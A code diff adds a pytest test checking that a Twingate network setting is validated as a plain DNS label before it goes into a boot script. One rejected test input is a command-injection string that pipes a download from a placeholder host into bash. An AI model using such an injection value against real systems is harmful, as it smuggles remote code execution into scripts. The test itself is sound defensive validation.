@@ -236,6 +236,13 @@ def test_twingate_enabled_without_credentials():
     assert twingate_error({"twingate:apiToken": "<secret>"}).startswith("twingate:network: a missing value")
 
 
+@pytest.mark.parametrize("network", ["Example", "ex ample", 'x"; curl evil | bash; "', "example.twingate.com", "-x"])
+def test_twingate_network_is_a_dns_label_since_it_goes_into_the_boot_script(network):
+    message = twingate_error({"twingate:apiToken": "<secret>", "twingate:network": network})
+    assert message.startswith(f"twingate:network: {network!r} is not accepted; expected the <name> of "
+                              "<name>.twingate.com"), message
+
+
 def test_domains_are_normalised():
     dns = settings_with(dns__awsDomains=["AWS.Example.Internal."]).dns
     assert dns.aws_domains == ("aws.example.internal.",)
